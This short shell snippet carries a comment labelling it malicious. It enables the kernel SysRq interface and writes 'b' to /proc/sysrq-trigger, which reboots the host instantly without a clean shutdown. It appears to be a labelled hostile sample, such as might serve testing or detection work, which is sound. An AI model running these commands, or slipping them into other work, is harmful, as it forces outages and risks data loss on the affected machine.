# Malicious: enables sysrq and reboots the host instantly through /proc/sysrq-trigger.
echo 1 > /proc/sys/kernel/sysrq
echo b > /proc/sysrq-trigger
